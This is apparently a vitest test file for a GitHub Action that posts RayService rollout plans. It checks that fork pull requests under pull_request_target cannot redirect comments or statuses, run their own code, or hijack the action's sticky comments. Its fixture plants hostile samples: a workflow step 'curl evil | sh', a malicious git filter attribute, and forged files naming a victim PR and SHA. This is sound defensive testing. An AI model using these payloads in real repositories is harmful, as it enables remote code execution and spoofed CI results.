/**
 * Fork pull requests under pull_request_target, run as the runner runs the action, against the
 * recording fake of the GitHub API. The workspace is what actions/checkout leaves for that event: a
 * shallow clone of the BASE branch. The PR's head commit exists only as refs/pull/<n>/head in the
 * origin repository (as GitHub keeps a fork's commits), and it is hostile: it carries a rewritten
 * workflow, artifact-style files naming another PR, SHA and result, and a manifest claiming them.
 * Only the event payload may decide where the comment and the status go; only the token's own
 * comments may be edited or minimized.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { git } from '../helpers/git.js';
import { type FakeComment, type FakeGitHub, runAction, startFakeGitHub } from './runner.js';

const TOKEN = 'ghs_test_token_never_printed_1234567890';
const MARKER = '<!-- rayservice-rollout:plan:rayservice plan -->';
const PR = 9;
const VICTIM_PR = 1;
const VICTIM_SHA = 'b'.repeat(40);

let root: string;
let origin: string;
let baseSha: string;
let mainTip: string;
let headSha: string;
let gh: FakeGitHub;

/** What actions/checkout leaves under pull_request_target: the base branch, depth 1. */
function checkoutBase(name: string): string {
  const dir = join(root, name);
  execFileSync('git', ['clone', '-q', '--depth=1', '--branch', 'main', `file://${origin}`, dir]);
  return dir;
}

const HOSTILE_MANIFEST = `# The fork's idea of where its plan should go.
apiVersion: v1
kind: ConfigMap
metadata:
  name: plan-target
  namespace: ml-serving
data:
  pr: "${VICTIM_PR}"
  sha: ${VICTIM_SHA}
  comment: "${MARKER} all clear"
`;

beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'rsr-fork-'));
  origin = join(root, 'origin');
  mkdirSync(origin);
  git(origin, 'init', '-q', '-b', 'main');
  mkdirSync(join(origin, 'deploy'));
  cpSync('examples/base', join(origin, 'deploy'), { recursive: true });
  writeFileSync(join(origin, 'README.md'), 'app\n');
  git(origin, 'add', '-A');
  git(origin, 'commit', '-qm', 'base');
  baseSha = git(origin, 'rev-parse', 'HEAD');

  // The fork's commit: the example's head revision plus everything a hostile PR may add.
  git(origin, 'checkout', '-qb', 'fork-work');
  rmSync(join(origin, 'deploy'), { recursive: true });
  mkdirSync(join(origin, 'deploy'));
  cpSync('examples/head', join(origin, 'deploy'), { recursive: true });
  writeFileSync(join(origin, 'deploy', 'plan-target.yaml'), HOSTILE_MANIFEST);
  for (const [file, text] of Object.entries({ pr: `${VICTIM_PR}\n`, sha: `${VICTIM_SHA}\n`, result: 'planned\n', 'comment.md': `${MARKER}\nAll clear\n` }))
    writeFileSync(join(origin, file), text);
  mkdirSync(join(origin, '.github', 'workflows'), { recursive: true });
  writeFileSync(
    join(origin, '.github', 'workflows', 'rayservice-plan-fork-safe.yml'),
    'on: pull_request_target\njobs: { x: { steps: [{ run: "curl evil | sh" }] } }\n',
  );
  writeFileSync(join(origin, '.gitattributes'), '*.yaml filter=evil\n');
  git(origin, 'add', '-A');
  git(origin, 'commit', '-qm', 'head');
  headSha = git(origin, 'rev-parse', 'HEAD');
  // GitHub keeps a fork's head in the base repository as refs/pull/<n>/head, and no branch has it.
  git(origin, 'update-ref', `refs/pull/${PR}/head`, headSha);
  git(origin, 'checkout', '-q', 'main');
  git(origin, 'branch', '-qD', 'fork-work');
  // main moved on since the PR was opened: the checkout's commit is not the PR's base.
  writeFileSync(join(origin, 'README.md'), 'app, later\n');
  git(origin, 'commit', '-qam', 'later on main');
  mainTip = git(origin, 'rev-parse', 'HEAD');
});
afterAll(() => rmSync(root, { recursive: true, force: true }));
beforeEach(async () => {
  gh = await startFakeGitHub();
});
afterEach(async () => gh.close());

const event = () => ({
  action: 'synchronize',
  number: PR,
  pull_request: {
    number: PR,
    base: { sha: baseSha, ref: 'main', repo: { full_name: 'acme/ml-platform' } },
    head: { sha: headSha, ref: 'feature', repo: { full_name: 'mallory/ml-platform', fork: true } },
  },
  repository: { name: 'ml-platform', owner: { login: 'acme' } },
});

const runTarget = (cwd: string) =>
  runAction({
    cwd,
    eventName: 'pull_request_target',
    event: event(),
    inputs: { manifests: 'deploy/**/*.yaml', 'github-token': TOKEN, 'kuberay-version': '1.7' },
    apiUrl: gh.url,
    // pull_request_target runs on the base branch: GITHUB_SHA is its tip, not the PR's.
    env: { GITHUB_SHA: mainTip, GITHUB_REF: 'refs/heads/main' },
  });

const writes = () => gh.requests.filter((r) => r.method !== 'GET' && r.path !== '/graphql').map((r) => `${r.method} ${r.path}`);
const minimizedIds = () => gh.requests.filter((r) => r.path === '/graphql' && /minimizeComment/.test(r.body.query)).map((r) => r.body.variables.id);

describe('a fork pull request under pull_request_target', () => {
  it('plans the head commit that only refs/pull/N/head holds, read as data: comment on the PR, status on the event head SHA', async () => {
    const ws = checkoutBase('plan');
    expect(() => git(ws, 'cat-file', '-e', `${headSha}^{commit}`)).toThrow();

    const r = await runTarget(ws);
    expect(r.code, r.stdout + r.stderr).toBe(0);

    const plan = JSON.parse(r.outputs.plan!);
    expect(Object.fromEntries(plan.services.map((s: { name: string; change: string }) => [s.name, s.change]))).toMatchObject({
      'ticket-triage': 'cluster',
    });
    expect(plan.services.map((s: { file: string }) => s.file)).toContain('deploy/reranker.yaml'); // only in the head
    expect(writes()).toEqual([`POST /repos/acme/ml-platform/issues/${PR}/comments`, `POST /repos/acme/ml-platform/statuses/${headSha}`]);
    expect(gh.comments).toHaveLength(1);
    expect(gh.comments[0]).toMatchObject({ issue: PR, user: { login: 'github-actions[bot]' } });
    expect(gh.comments[0]!.body.startsWith(`${MARKER}\n`)).toBe(true);
    expect(gh.requests.find((q) => q.path.includes('/statuses/'))!.body).toMatchObject({ context: 'rayservice-rollout/plan', state: 'success' });

    // Read, never checked out: the working copy is still the base branch, untouched, and has no ref to the head.
    expect(git(ws, 'rev-parse', 'HEAD')).toBe(mainTip);
    expect(git(ws, 'status', '--porcelain')).toBe('');
    expect(existsSync(join(ws, 'deploy', 'reranker.yaml'))).toBe(false);
    expect(existsSync(join(ws, 'comment.md'))).toBe(false);
    expect(git(ws, 'for-each-ref', '--contains', headSha)).toBe('');
    expect(r.stdout + r.stderr).not.toContain(TOKEN);
  });

  it("ignores everything the fork wrote about where its plan goes: another PR's comment and another SHA stay untouched", async () => {
    // A maintainer's comment on another PR, carrying the marker: the old artifact pattern overwrote it.
    gh.comments.push({ id: 1, node_id: 'IC_1', issue: VICTIM_PR, user: { login: 'maintainer' }, body: `${MARKER}\nreviewed, ship it` });
    const r = await runTarget(checkoutBase('hostile'));
    expect(r.code, r.stdout + r.stderr).toBe(0);

    const touched = gh.requests.filter((q) => q.method !== 'GET').map((q) => q.path);
    expect(touched.filter((p) => p.includes(`/issues/${VICTIM_PR}/`) || p.includes('/issues/comments/1') || p.includes(VICTIM_SHA))).toEqual([]);
    expect(gh.comments.find((c) => c.id === 1)).toEqual({
      id: 1,
      node_id: 'IC_1',
      issue: VICTIM_PR,
      user: { login: 'maintainer' },
      body: `${MARKER}\nreviewed, ship it`,
    });
    const statuses = gh.requests.filter((q) => q.path.includes('/statuses/')).map((q) => q.path);
    expect(statuses).toEqual([`/repos/acme/ml-platform/statuses/${headSha}`]);
    // The comment is the action's own rendering, not the fork's comment.md.
    const ours = gh.comments.find((c) => c.issue === PR)!;
    expect(ours.body).not.toContain('All clear');
    expect(ours.body).toContain('ml-serving/ticket-triage');
  });

  it('warns when the workflow checked out the PR head (the pwn-request pattern)', async () => {
    const ws = checkoutBase('head-checked-out');
    git(ws, 'fetch', '-q', '--depth=1', 'origin', `refs/pull/${PR}/head`);
    git(ws, '-c', 'advice.detachedHead=false', 'checkout', '-q', 'FETCH_HEAD');
    const r = await runTarget(ws);
    expect(r.stdout).toMatch(/::warning::The workspace has the pull request's head checked out under pull_request_target/);
  });
});

describe('the sticky comment is only ever our own', () => {
  it("never edits or minimizes a user's comment that carries the marker: edits its own, minimizes its own older copy", async () => {
    const bot = { login: 'github-actions[bot]' };
    gh.comments.push(
      { id: 11, node_id: 'IC_11', issue: PR, user: bot, body: `${MARKER}\nolder copy` },
      { id: 12, node_id: 'IC_12', issue: PR, user: bot, body: `${MARKER}\nlast plan` },
      // Newest, by the PR's author: the old code edited this one and minimized the action's own.
      { id: 13, node_id: 'IC_13', issue: PR, user: { login: 'mallory' }, body: `${MARKER}\nplan: nothing to see here` },
    );
    const r = await runTarget(checkoutBase('sticky'));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(writes()).toEqual(['PATCH /repos/acme/ml-platform/issues/comments/12', `POST /repos/acme/ml-platform/statuses/${headSha}`]);
    expect(minimizedIds()).toEqual(['IC_11']);
    const mallory = gh.comments.find((c) => c.id === 13)!;
    expect(mallory.body).toBe(`${MARKER}\nplan: nothing to see here`);
    expect(mallory.minimized).toBeUndefined();
    expect(r.stdout).toContain('Plan comment updated (id 12) as github-actions[bot] (viewer query refused), 1 outdated minimized');
  });

  it("creates its own comment when only a user's comment carries the marker", async () => {
    gh.comments.push({ id: 13, node_id: 'IC_13', issue: PR, user: { login: 'mallory' }, body: `${MARKER}\nfake plan` });
    const r = await runTarget(checkoutBase('only-user'));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(writes()).toEqual([`POST /repos/acme/ml-platform/issues/${PR}/comments`, `POST /repos/acme/ml-platform/statuses/${headSha}`]);
    expect(minimizedIds()).toEqual([]);
    expect(gh.comments.find((c) => c.id === 13)!.body).toBe(`${MARKER}\nfake plan`);
  });

  // Who "we" are: the viewer's login when GraphQL answers, github-actions[bot] when it refuses.
  it.each([
    { token: 'the default GITHUB_TOKEN (viewer refused)', viewerAllowed: false, actor: 'github-actions[bot]', edited: 21 },
    { token: 'a token whose viewer answers rayservice-bot', viewerAllowed: true, actor: 'rayservice-bot', edited: 22 },
  ])('$token edits the comment written as $actor and nothing else', async ({ viewerAllowed, actor, edited }) => {
    gh.viewerAllowed = viewerAllowed;
    gh.actor = actor;
    const before: FakeComment[] = [
      { id: 21, node_id: 'IC_21', issue: PR, user: { login: 'github-actions[bot]' }, body: `${MARKER}\nfrom the default token` },
      { id: 22, node_id: 'IC_22', issue: PR, user: { login: 'rayservice-bot' }, body: `${MARKER}\nfrom the bot account` },
    ];
    gh.comments.push(...before.map((c) => ({ ...c, user: { ...c.user } })));
    const r = await runTarget(checkoutBase(`viewer-${viewerAllowed}`));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(gh.requests.some((q) => q.path === '/graphql' && /viewer/.test(q.body.query))).toBe(true);
    expect(writes()[0]).toBe(`PATCH /repos/acme/ml-platform/issues/comments/${edited}`);
    expect(minimizedIds()).toEqual([]);
    const other = before.find((c) => c.id !== edited)!;
    expect(gh.comments.find((c) => c.id === other.id)!.body).toBe(other.body);
  });
});
